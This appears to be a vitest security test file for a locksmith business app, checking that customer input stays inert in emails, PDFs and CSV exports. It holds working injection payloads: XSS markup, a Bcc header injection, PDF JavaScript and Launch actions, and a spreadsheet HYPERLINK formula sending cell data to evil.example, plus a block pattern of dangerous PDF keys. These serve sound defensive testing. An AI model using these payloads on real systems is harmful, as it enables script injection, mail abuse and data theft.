import { mkdir, readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseHtml } from 'node-html-parser';
import type { Email } from 'postal-mime';
import { expect, test } from 'vitest';
import booking from '#functions/booking.ts';
import contact from '#functions/contact.ts';
import quotes from '#functions/quotes.ts';
import reviews from '#functions/reviews.ts';
import { exportFiles } from '#contract/books/exports.ts';
import { readConfig } from '#server/config.ts';
import { markPicture } from '#server/mail/layout.ts';
import { drainOutbox } from '#server/outbox/drain-outbox.ts';
import { call } from '#tests/support/call.ts';
import { fetchPdf, linkTo, makeEstimate } from '#tests/support/money.ts';
import { signInToOffice } from '#tests/support/office.ts';
import { parseMail } from '#tests/support/parse-mail.ts';
import { pdfText } from '#tests/support/pdf-text.ts';
import { testServer } from '#tests/support/server.ts';
import { withoutIds } from '#tests/support/without-ids.ts';

// User input appears in mail, PDFs and spreadsheets as inert text. (Screens:
// tests/walks/stored-script.spec.ts.)

const { db, dataDir } = await testServer();
const office = await signInToOffice();
const folder = join(dataDir, 'mail');
await mkdir(folder, { recursive: true });

const MARKUP =
  '</td><img src=x onerror=alert(1)><script>alert(2)</script><a href="https://evil.example">Pay</a>';
const HEADER = 'Kai\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<h1>Hi</h1>';
const FACT = 'Poipu\nReference: FAKE-1\nTotal: $0.00';
const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")';

/** A name with line breaks is refused (body-limits.test.ts); the other fields keep theirs. */
const named = (text: string) => text.replaceAll(/[\r\n]+/g, ' ').slice(0, 100);

const person = (text: string) => ({
  firstName: named(text),
  lastName: named(text),
  phone: text.slice(0, 50),
  email: 'kai@example.com',
  location: text.slice(0, 300),
});

async function leave(text: string): Promise<void> {
  const asks = [
    [contact, '/api/contact', { ...person(text), serviceType: 'other', message: text }],
    [booking, '/api/booking', { ...person(text), serviceType: 'rekey', message: text }],
    [
      quotes,
      '/api/quotes',
      {
        ...person(text),
        serviceType: 'automotive',
        serviceAddress: text,
        notes: text,
        vehicleYear: 2019,
        vehicleMake: text.slice(0, 60),
        vehicleModel: text.slice(0, 60),
        items: [{ serviceCategory: 'custom', serviceDescription: text, quantity: 1, unitPrice: '9.00' }],
      },
    ],
    [reviews, '/api/reviews', { name: text.slice(0, 60), location: text.slice(0, 60), rating: 1, text }],
  ] as const;
  for (const [handler, path, body] of asks) {
    const answer = await call(handler, 'POST', path, { body });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
  }
}

async function mails(): Promise<Email[]> {
  const before = new Set(await readdir(folder));
  const until = new Date(Date.now() + 100_000);
  await drainOutbox({ db, config: readConfig(process.env), now: () => new Date(), until });
  const fresh = (await readdir(folder)).filter((name) => !before.has(name));
  return Promise.all(fresh.map(async (name) => parseMail(await readFile(join(folder, name)))));
}

test('mails show markup as text, to the office and to customers', async () => {
  await leave(MARKUP);
  const { id } = await makeEstimate(office, {
    ...person(MARKUP),
    serviceAddress: MARKUP,
    items: [{ serviceCategory: 'parts', serviceDescription: MARKUP, quantity: 1, unitPrice: '9.00' }],
  });
  expect((await office.post(`/api/admin/quotes/${id}/send`, {})).status).toBe(200);
  const sent = await mails();
  // Four to the office, one to the customer; a suspicious request gets no receipt.
  expect(sent.length).toBe(5);
  for (const mail of sent) {
    const page = parseHtml(mail.html ?? '');
    expect(page.querySelectorAll('script, iframe, form, svg, [onerror]')).toEqual([]);
    // The letterhead's own picture, which the mail carries.
    expect(page.querySelectorAll('img').map((image) => image.getAttribute('src'))).toEqual([
      `cid:${markPicture.cid}`,
    ]);
    const links = page.querySelectorAll('a').map((link) => link.getAttribute('href') ?? '');
    for (const link of links) expect(link).toMatch(/^(?:https:\/\/nenelock\.example\/|tel:[+\d]*$)/);
  }
  expect(sent.filter(({ text }) => text?.includes('<script>alert(2)</script>')).length).toBeGreaterThan(3);
});

test('user input never becomes a header, a recipient or a fact', async () => {
  await leave(HEADER);
  await leave(FACT);
  const sent = await mails();
  const own = new Set(['aloha@nenelock.example', 'kai@example.com']);
  for (const mail of sent) {
    expect(
      [...(mail.to ?? []), ...(mail.cc ?? []), ...(mail.bcc ?? [])].map(({ address }) => address),
    ).toHaveLength(1);
    expect(own.has(mail.to?.[0]?.address ?? '')).toBe(true);
    expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
    expect(mail.headers.filter(({ key }) => key === 'content-type')).toHaveLength(1);
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(
      (mail.text ?? '').split('\n').filter((line) => /^(?:Reference: FAKE|Total: \$0\.00)/.test(line)),
    ).toEqual([]);
  }
  // Entering another person's address must not send them user-supplied text.
  for (const mail of sent.filter(({ to }) => to?.[0]?.address === 'kai@example.com')) {
    expect(withoutIds(`${mail.subject}${mail.text}${mail.html}`)).not.toMatch(/victim|FAKE|<h1>Hi/);
  }
});

test('a PDF prints user input and contains nothing executable', async () => {
  const { id } = await makeEstimate(office, {
    ...person(MARKUP),
    serviceAddress: ') Tj ET /JS (app.alert(1)) /OpenAction << /S /JavaScript >>',
    items: [
      {
        serviceCategory: 'parts',
        serviceDescription: '<</S/Launch/F(calc.exe)>> endstream endobj',
        quantity: 1,
        unitPrice: '9.00',
      },
    ],
  });
  const token = await linkTo(office, id);
  for (const path of [`/api/admin/quotes/${id}/pdf`, `/api/documents/${token}/pdf`]) {
    const { bytes } = await fetchPdf(path, office.token);
    const objects = Buffer.from(bytes)
      .toString('latin1')
      .replaceAll(/stream\r?\n[\s\S]*?endstream/g, '');
    expect(objects).not.toMatch(
      /\/(?:JS|JavaScript|OpenAction|AA|Launch|EmbeddedFiles?|SubmitForm|ImportData|RichMedia|XFA|GoToR)\b/,
    );
    const words = (await pdfText(bytes)).replaceAll(/\s+/g, ' ');
    expect(words).toContain('/OpenAction');
    expect(words).toContain('calc.exe');
  }
});

test('no cell of any export starts like a formula', async () => {
  for (const start of ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'])
    await leave(`${start}${FORMULA}`);
  await office.post('/api/admin/customers', {
    firstName: FORMULA,
    lastName: '@SUM(1)',
    phone: '-1+1',
    notes: FORMULA,
  });
  await office.post('/api/admin/inventory', {
    name: FORMULA,
    category: 'parts',
    sku: '=1',
    sellPrice: '1.00',
    supplier: '+1',
  });
  for (const file of exportFiles) {
    const { body } = await office.get(`/api/admin/export/${file}`);
    const rows = parseCsv(body as string, { bom: true }) as string[][];
    const cells = rows.flat();
    const formulas = cells.filter(
      (cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell),
    );
    expect([file, formulas]).toEqual([file, []]);
  }
});
